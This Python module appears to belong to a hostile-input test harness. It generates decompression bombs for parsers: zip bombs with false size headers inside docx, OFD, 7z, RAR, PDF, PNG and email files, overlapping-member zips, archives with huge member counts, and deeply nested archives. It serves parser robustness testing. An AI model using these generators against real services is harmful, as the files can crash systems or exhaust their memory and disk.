"""Small files that unpack to large ones."""

from __future__ import annotations

import struct
import zlib

from hostile.attacks.register import Files, simple
from hostile.make import docx, mail, ofd, pdf, pictures, rar, seven, zips
from hostile.make.words import TEXT

GB = 1 << 30
DEFLATE = b"\x04\x01\x08"  # 7z's name for it


def _with(parts: dict[str, bytes], *more: zips.Entry) -> bytes:
    """A package with entries put in place of its parts of the same name."""
    names = {e.name for e in more}
    return zips.build([*(zips.Entry(n, d) for n, d in parts.items() if n not in names), *more])


# --- one member, very large


def _docx(kind: str) -> Files:
    head, tail = docx.document().split(b"<w:sectPr/>")
    main = "word/document.xml"
    plain = docx.parts(kind=kind)
    return {
        "main part": _with(plain, zips.bomb(main, GB, head=head, tail=tail)),
        "main part, lying": _with(plain, zips.bomb(main, GB, head=head, tail=tail, lie=True)),
        "other part": _with(plain, zips.bomb("word/media/image1.png", GB)),
        "types, lying": _with(plain, zips.bomb("[Content_Types].xml", GB, lie=True)),
    }


simple("zip bomb", "docx", lambda: _docx("docx"))
simple("zip bomb", "docm", lambda: _docx("docm"))


def _ofd() -> Files:
    plain = ofd.parts()
    page = "Doc_0/Pages/Page_0/Content.xml"
    return {
        "page": _with(plain, zips.bomb(page, GB)),
        "page, lying": _with(plain, zips.bomb(page, GB, lie=True)),
        "root, lying": _with(plain, zips.bomb("OFD.xml", GB, lie=True)),
    }


simple("zip bomb", "ofd", _ofd)


def _zip() -> Files:
    return {
        "one": zips.build([zips.bomb("报告.txt", GB)]),
        "lying": zips.build([zips.bomb("报告.txt", GB, lie=True)]),
        "many of 40 MB": zips.build([zips.bomb(f"{i}.txt", 40 << 20) for i in range(200)]),
        "many, lying": zips.build([zips.bomb(f"{i}.txt", 40 << 20, lie=True) for i in range(200)]),
    }


simple("zip bomb", "zip", _zip)
simple(
    "zip bomb",
    "eml",
    lambda: mail.make([mail.text(), mail.attachment("报告.zip", zips.build([zips.bomb("报告.txt", GB)]))]),
)


def _seven() -> Files:
    block = bytes(1 << 20)
    packed = zips.deflated_run(b"", block, 1024, b"")
    one = [("报告.txt", b"x")]
    return {
        "one": seven.build(one, coder=DEFLATE, packed=packed, sizes=[GB]),
        "lying": seven.build(one, coder=DEFLATE, packed=packed, sizes=[1000]),
    }


simple("zip bomb", "7z", _seven)
simple(
    "zip bomb",
    "rar",
    lambda: {
        "declared": rar.build([rar.Entry("报告.txt", TEXT.encode(), size=1 << 40, method=rar.NORMAL)]),
        "declared, stored": rar.build([rar.Entry("报告.txt", TEXT.encode(), size=1 << 32)]),
    },
)


def _pdf() -> Files:
    block = b" " * (1 << 20)
    adler = struct.pack(">L", 0)
    gigabyte = b"\x78\x9c" + zips.deflated_run(b"", block, 1024, b"") + adler
    once = pdf.stream(gigabyte, "/Filter/FlateDecode")
    twice = pdf.stream(zlib.compress(gigabyte, 9), "/Filter[/FlateDecode/FlateDecode]")
    # every two bytes of it stand for 128
    runs = pdf.stream(zlib.compress(bytes([129, 32]) * (8 << 20), 9), "/Filter[/FlateDecode/RunLengthDecode]")
    many = b"<</Type/Page/Parent 2 0 R/Contents[" + b"4 0 R " * 2000 + b"]/Resources<</Font<</F1 5 0 R>>>>>>"
    medium = b"\x78\x9c" + zips.deflated_run(b"", block, 30, b"") + adler
    return {
        "flate": pdf.make(o4=once),
        "flate in flate": pdf.make(o4=twice),
        "run length in flate": pdf.make(o4=runs),
        "one stream 2000 times": pdf.make(o3=many, o4=pdf.stream(medium, "/Filter/FlateDecode")),
    }


simple("zip bomb", "pdf", _pdf)


def _png() -> Files:
    bomb = b"\x78\x9c" + zips.deflated_run(b"", bytes(1 << 20), 1024, b"") + bytes(4)
    return {
        "rows": pictures.png(data=bomb),
        "profile": pictures.png(more=pictures.chunk(b"iCCP", b"a\0\0" + bomb)),
        "text": pictures.png(more=pictures.chunk(b"zTXt", b"a\0\0" + bomb)),
    }


simple("zip bomb", "png", _png)

# --- members that share their bytes


def _overlapping(parts: dict[str, bytes]) -> bytes:
    """After David Fifield: many names, one kernel."""
    kernel = zips.bomb("k", 40 << 20)
    entries = [*(zips.Entry(n, d) for n, d in parts.items())]
    start = len(zips.build(entries)) - _directory(entries)
    return zips.build(
        [
            *entries,
            kernel,
            *(zips.Entry(f"{i}.txt", packed=kernel.packed, size=40 << 20, crc=0, at=start) for i in range(500)),
        ]
    )


def _directory(entries: list[zips.Entry]) -> int:
    return sum(46 + len(e.name.encode()) for e in entries) + 22


simple("overlapping members", "docx", lambda: _overlapping(docx.parts()))
simple("overlapping members", "docm", lambda: _overlapping(docx.parts(kind="docm")))
simple("overlapping members", "ofd", lambda: _overlapping(ofd.parts()))
simple("overlapping members", "zip", lambda: _overlapping({"报告.txt": TEXT.encode()}))

# --- very many members


def _many(parts: dict[str, bytes], number: int = 100_000) -> bytes:
    blank = zips.Entry("x", method=zips.STORED)
    return zips.build(
        [
            *(zips.Entry(n, d) for n, d in parts.items()),
            *(zips.Entry(f"{i}", method=blank.method) for i in range(number)),
        ]
    )


simple("many members", "docx", lambda: _many(docx.parts()))
simple("many members", "docm", lambda: _many(docx.parts(kind="docm")))
simple("many members", "ofd", lambda: _many(ofd.parts()))
simple(
    "many members",
    "zip",
    lambda: {
        "many": _many({"报告.txt": TEXT.encode()}),
        "2,000 reports": zips.pack({f"{i}/报告.txt": TEXT.encode() for i in range(2000)}),
    },
)
simple(
    "many members",
    "7z",
    lambda: {
        "many": seven.build([(str(i), b"") for i in range(100_000)]),
        "2,000 reports": seven.pack({f"{i}/报告.txt": TEXT.encode() for i in range(2000)}),
        "declared": seven.build([("报告.txt", TEXT.encode())], files=1 << 50),
    },
)
simple("many members", "rar", lambda: rar.build([rar.Entry(f"{i}.txt", b"x") for i in range(100_000)]))
simple(
    "many members",
    "eml",
    lambda: {
        "parts": mail.make([mail.attachment(f"{i}.txt", b"x") for i in range(20_000)]),
        "headers": mail.HEAD.encode() + b"".join(b"X-%d: y\r\n" % i for i in range(200_000)) + mail.text(TEXT).encode(),
    },
)

# --- archives in archives


def _nested(pack, depth: int, wide: int = 1) -> bytes:  # type: ignore[no-untyped-def]
    data, name = TEXT.encode(), "报告.txt"
    for _ in range(depth):
        data = pack({f"{i}{name}": data for i in range(wide)})
        name = ".zip" if pack is zips.pack else ".7z"
    return data


simple(
    "archives in archives",
    "zip",
    lambda: {
        "10 deep": _nested(zips.pack, 10),
        "500 deep": _nested(zips.pack, 500),
        "3 deep, 60 wide": _nested(zips.pack, 3, 60),
    },
)
simple("archives in archives", "7z", lambda: _nested(seven.pack, 10))
simple("archives in archives", "rar", lambda: rar.build([rar.Entry("a.zip", _nested(zips.pack, 10))]))
simple("archives in archives", "eml", lambda: mail.make([mail.attachment("a.zip", _nested(zips.pack, 10))]))
simple(
    "archives in archives", "docx", lambda: zips.pack({**docx.parts(), "word/embeddings/a.zip": _nested(zips.pack, 10)})
)
simple(
    "archives in archives",
    "docm",
    lambda: zips.pack({**docx.parts(kind="docm"), "word/embeddings/a.zip": _nested(zips.pack, 10)}),
)
simple("archives in archives", "ofd", lambda: zips.pack({**ofd.parts(), "Doc_0/Attachs/a.zip": _nested(zips.pack, 10)}))
